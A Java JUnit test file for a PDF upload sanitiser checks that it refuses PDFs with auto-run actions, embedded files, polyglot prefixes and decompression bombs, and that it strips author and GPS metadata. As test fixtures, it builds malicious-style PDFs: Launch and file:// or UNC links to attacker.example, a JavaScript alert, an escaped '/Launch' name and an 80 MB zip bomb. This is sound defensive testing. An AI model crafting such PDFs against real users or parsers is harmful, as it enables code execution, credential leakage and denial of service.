package se.saferreturn.document;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static se.saferreturn.document.Uploads.add;
import static se.saferreturn.document.Uploads.assertRefused;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.util.Arrays;
import java.util.List;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentInformation;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.apache.pdfbox.pdmodel.interactive.digitalsignature.PDSignature;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import se.saferreturn.filecleaning.DocumentType;
import se.saferreturn.filecleaning.Removed;

/** PDFs that do more than to be read, and those of people. */
class PdfFileTest {

    private static final String AGAIN = "Print it to PDF again";

    /** Where a PDF can say that something happens by itself. */
    private static final List<String> PLACES = List.of("catalog", "page", "annotation", "field", "next");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "JavaScript",
                "Launch",
                "SubmitForm",
                "ImportData",
                "GoToR",
                "GoToE",
                "URI",
                "Rendition",
                "Unknown"
            })
    void nothingHappensByItself(String kind) {
        for (String place : PLACES) {
            byte[] pdf = PdfFiles.saying("Intyg", document -> put(document, place, action(kind)));

            assertRefused(pdf, AGAIN);
        }
    }

    @Test
    void theReasonIsTheTrueOne() {
        assertRefused(with("annotation-click", action("JavaScript")), "scripts (JavaScript)", AGAIN);
        assertRefused(with("annotation-click", action("Launch")), "starts a program", AGAIN);
        assertRefused(with("annotation-click", action("SubmitForm")), "sends or fetches", AGAIN);
        assertRefused(with("annotation-click", action("GoToR")), "opens other files", AGAIN);
        assertRefused(with("page", action("URI")), "by itself", AGAIN);
        COSDictionary toFile = action("URI");
        toFile.setString(COSName.URI, "file://attacker.example/share/x.exe");
        assertRefused(with("annotation-click", toFile), "links that open something other", AGAIN);
    }

    @Test
    void theSameBehindOtherSpellings() {
        byte[] escaped = replace(with("annotation-click", action("Launch")), "/Launch", "/L#61#75nch");
        assertRefused(escaped, "starts a program");

        byte[] packed = PdfFiles.saying("Intyg", document -> put(document, "annotation-click", action("JavaScript")));
        try (PDDocument document = Loader.loadPDF(packed);
                ByteArrayOutputStream inStreams = new ByteArrayOutputStream()) {
            document.save(inStreams);
            assertThat(inStreams.toString(ISO_8859_1)).doesNotContain("JavaScript");
            assertRefused(inStreams.toByteArray(), "scripts (JavaScript)");
        } catch (IOException impossible) {
            throw new AssertionError(impossible);
        }
    }

    @Test
    void filesFilmsAndProgramsInAPdfAreRefused() {
        assertRefused(
                PdfFiles.saying("Intyg", document -> {
                    COSDictionary file = new COSDictionary();
                    file.setItem(COSName.EF, new COSDictionary());
                    document.getDocumentCatalog()
                            .getCOSObject()
                            .setItem(COSName.getPDFName("AF"), new COSArray(List.of(file)));
                }),
                "other files attached");
        assertRefused(
                PdfFiles.saying("Intyg", document -> {
                    COSDictionary form = new COSDictionary();
                    form.setItem(COSName.getPDFName("XFA"), new COSString("<xdp/>"));
                    document.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
                }),
                "XFA");
        for (String media : List.of("RichMedia", "3D", "Screen", "FileAttachment")) {
            COSDictionary annotation = new COSDictionary();
            annotation.setName(COSName.SUBTYPE, media);
            assertRefused(
                    PdfFiles.saying(
                            "Intyg",
                            document -> document.getPage(0)
                                    .getCOSObject()
                                    .setItem(COSName.ANNOTS, new COSArray(List.of(annotation)))),
                    AGAIN);
        }
        assertRefused(
                PdfFiles.saying("Intyg", document -> {
                    COSStream elsewhere = document.getDocument().createCOSStream();
                    elsewhere.setString(COSName.F, "\\\\attacker.example\\share\\x");
                    document.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("X"), elsewhere);
                }),
                "from other files");
    }

    @Test
    void aPdfWithAPasswordIsRefusedAsSuch() {
        for (String password : List.of("hemligt", "")) {
            byte[] pdf = PdfFiles.saying(
                    "Intyg",
                    document ->
                            document.protect(new StandardProtectionPolicy("owner", password, new AccessPermission())));

            assertRefused(pdf, "protected by a password", AGAIN);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"\u00ef\u00bb\u00bf", "\n", "\r\n\r\n", "\u0000\u0000", "From the copying machine, page 1\r\n"})
    void aFewSignsInFrontAreTakenAway(String before) {
        byte[] pdf = join(before.getBytes(ISO_8859_1), PdfFiles.saying("Intyg for Provova"));

        NewDocument taken = add(pdf);

        assertThat(taken.type()).isEqualTo(DocumentType.PDF);
        assertThat(new String(taken.content(), 0, 5, ISO_8859_1)).isEqualTo("%PDF-");
        assertThat(PdfFiles.textOf(taken.content())).contains("Intyg for Provova");
        assertThat(taken.removed()).contains(Removed.BEFORE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>\n",
                "MZ\u0090\u0000\u0003\u0000",
                "PK\u0003\u0004",
                "#!/bin/sh\n",
                "GIF89a"
            })
    void anotherFileInFrontIsRefused(String before) {
        assertRefused(join(before.getBytes(ISO_8859_1), PdfFiles.saying("Intyg")), "");
    }

    @Test
    void whoMadeItAndWhereIsGone() throws Exception {
        byte[] pdf = PdfFiles.saying("Intyg for Provova", document -> {
            PDDocumentInformation made = new PDDocumentInformation();
            made.setAuthor("Anna Handlaggarsson");
            made.setTitle("Microsoft Word - C:\\Users\\handlaggarsson\\intyg.docx");
            document.setDocumentInformation(made);
            document.getDocumentCatalog()
                    .setMetadata(new PDMetadata(
                            document, new ByteArrayInputStream("<x>Anna Handlaggarsson</x>".getBytes(ISO_8859_1))));
            try (PDPageContentStream content = new PDPageContentStream(
                    document, document.getPage(0), PDPageContentStream.AppendMode.APPEND, false)) {
                content.drawImage(
                        PDImageXObject.createFromByteArray(document, Photographs.jpegWithPosition(), "photo"), 10, 10);
            }
            COSDictionary remark = new COSDictionary();
            remark.setName(COSName.SUBTYPE, "Text");
            remark.setString(COSName.T, "Anna Handlaggarsson");
            remark.setString(COSName.CONTENTS, "Kept remark");
            document.getPage(0).getCOSObject().setItem(COSName.ANNOTS, new COSArray(List.of(remark)));
        });
        assertThat(new String(pdf, ISO_8859_1)).contains("Handlaggarsson", "Provphone");

        NewDocument taken = add(pdf);

        assertThat(PdfFiles.textOf(taken.content())).contains("Intyg for Provova");
        assertThat(taken.removed()).contains(Removed.AUTHORS, Removed.POSITION);
        try (PDDocument document = Loader.loadPDF(taken.content());
                ByteArrayOutputStream plain = new ByteArrayOutputStream()) {
            document.save(plain, CompressParameters.NO_COMPRESSION);
            assertThat(plain.toString(ISO_8859_1))
                    .contains("Kept remark")
                    .doesNotContainIgnoringCase("handlaggarsson")
                    .doesNotContain("Provphone", "GPSLatitude", "Provova Agare");
        }
    }

    @Test
    void aSignedPdfIsKeptByteForByte() {
        byte[] signed = PdfFiles.saying("Beslut", PdfFileTest::sign);
        assertThat(add(signed).content()).isEqualTo(signed);
        assertThat(add(signed).removed()).isEmpty();

        byte[] withPosition = PdfFiles.saying("Beslut", document -> {
            sign(document);
            try (PDPageContentStream content = new PDPageContentStream(
                    document, document.getPage(0), PDPageContentStream.AppendMode.APPEND, false)) {
                content.drawImage(
                        PDImageXObject.createFromByteArray(document, Photographs.jpegWithPosition(), "photo"), 10, 10);
            }
        });
        assertRefused(withPosition, "where it was taken");
        assertRefused(join(signed, OfficeFiles.word().bytes()), "damaged");
    }

    @Test
    void aPhotographThatIsPackedTwiceIsCleanedToo() throws Exception {
        byte[] pdf = PdfFiles.saying("Intyg", document -> {
            COSStream picture = document.getDocument().createCOSStream();
            picture.setItem(COSName.SUBTYPE, COSName.IMAGE);
            try (OutputStream out = picture.createRawOutputStream();
                    DeflaterOutputStream packed = new DeflaterOutputStream(out)) {
                packed.write(Photographs.jpegWithPosition());
            }
            picture.setItem(COSName.FILTER, new COSArray(List.of(COSName.FLATE_DECODE, COSName.DCT_DECODE)));
            document.getPage(0).getCOSObject().setItem(COSName.getPDFName("X"), picture);
        });

        NewDocument kept = add(pdf);

        assertThat(kept.removed()).contains(Removed.POSITION);
        assertThat(new String(kept.content(), ISO_8859_1)).doesNotContain("Provphone", "GPSLatitude");
        try (PDDocument document = Loader.loadPDF(kept.content())) {
            COSStream picture = (COSStream) document.getPage(0).getCOSObject().getDictionaryObject("X");
            assertThat(Photographs.points(picture.createRawInputStream().readAllBytes()))
                    .isEqualTo(Photographs.points(Photographs.jpegWithPosition()));
        }
    }

    @Test
    void actionsThatFollowEachOtherInACircleEnd() {
        COSDictionary first = action("GoTo");
        COSDictionary second = action("GoTo");
        first.setItem(COSName.NEXT, new COSArray(List.of(second, second)));
        second.setItem(COSName.NEXT, new COSArray(List.of(first, first, second)));
        byte[] pdf = PdfFiles.saying("Intyg", document -> {
            first.setDirect(false);
            put(document, "catalog", first);
        });

        assertThat(add(pdf).type()).isEqualTo(DocumentType.PDF);
    }

    @Test
    void linksAndPlacesInItAreTaken() {
        COSDictionary link = action("URI");
        link.setString(COSName.URI, "https://www.example.org/");
        assertThat(add(with("annotation-click", link)).type()).isEqualTo(DocumentType.PDF);
        assertThat(add(with("catalog", action("GoTo"))).type()).isEqualTo(DocumentType.PDF);
    }

    @Test
    void aDamagedPdfIsRefusedAndABombToo() throws Exception {
        assertRefused("%PDF-1.7\nnothing".getBytes(ISO_8859_1), "damaged", AGAIN);
        byte[] deep = ("%PDF-1.7\n1 0 obj\n" + "[".repeat(200_000)).getBytes(ISO_8859_1);
        assertRefused(deep, "damaged");
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (DeflaterOutputStream zeros = new DeflaterOutputStream(packed)) {
            for (int mega = 0; mega < 80; mega++) {
                zeros.write(new byte[1024 * 1024]);
            }
        }
        byte[] bomb = join(
                join(
                        ("%PDF-1.7\n1 0 obj\n<</Type/Obj#53tm/N 1/First 4/Filter/FlateDecode/Length " + packed.size()
                                        + ">>\nstream\n")
                                .getBytes(ISO_8859_1),
                        packed.toByteArray()),
                "\nendstream\nendobj\ntrailer<</Root 2 0 R>>".getBytes(ISO_8859_1));
        assertRefused(bomb, "unpacks to far more");
    }

    private static void sign(PDDocument document) throws IOException {
        PDSignature signature = new PDSignature();
        signature.setFilter(PDSignature.FILTER_ADOBE_PPKLITE);
        signature.setByteRange(new int[] {0, 1, 2, 3});
        signature.setContents(new byte[] {1, 2, 3});
        document.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Perms"), signature.getCOSObject());
    }

    private static byte[] with(String place, COSDictionary action) {
        return PdfFiles.saying("Intyg", document -> put(document, place, action));
    }

    private static COSDictionary action(String kind) {
        COSDictionary action = new COSDictionary();
        action.setName(COSName.S, kind);
        action.setString(COSName.F, "\\\\attacker.example\\x");
        action.setString(COSName.URI, "https://www.example.org/");
        if (kind.equals("JavaScript")) {
            action.setString(COSName.JS, "app.alert(1)");
        }
        return action;
    }

    private static void put(PDDocument document, String place, COSDictionary action) {
        COSDictionary catalog = document.getDocumentCatalog().getCOSObject();
        COSDictionary page = document.getPage(0).getCOSObject();
        COSDictionary events = new COSDictionary();
        events.setItem(COSName.O, action);
        COSDictionary annotation = new COSDictionary();
        annotation.setName(COSName.SUBTYPE, "Link");
        switch (place) {
            case "catalog" -> catalog.setItem(COSName.OPEN_ACTION, action);
            case "page" -> page.setItem(COSName.AA, events);
            case "annotation" -> {
                annotation.setItem(COSName.AA, events);
                page.setItem(COSName.ANNOTS, new COSArray(List.of(annotation)));
            }
            case "annotation-click" -> {
                annotation.setItem(COSName.A, action);
                page.setItem(COSName.ANNOTS, new COSArray(List.of(annotation)));
            }
            case "field" -> {
                COSDictionary field = new COSDictionary();
                field.setItem(COSName.AA, events);
                COSDictionary form = new COSDictionary();
                form.setItem(COSName.FIELDS, new COSArray(List.of(field)));
                catalog.setItem(COSName.ACRO_FORM, form);
            }
            case "next" -> {
                COSDictionary first = new COSDictionary();
                first.setName(COSName.S, "GoTo");
                first.setItem(COSName.NEXT, new COSArray(List.of(action)));
                catalog.setItem(COSName.OPEN_ACTION, first);
            }
            default -> throw new IllegalArgumentException(place);
        }
    }

    private static byte[] replace(byte[] pdf, String from, String to) {
        return new String(pdf, ISO_8859_1).replace(from, to).getBytes(ISO_8859_1);
    }

    private static byte[] join(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }
}
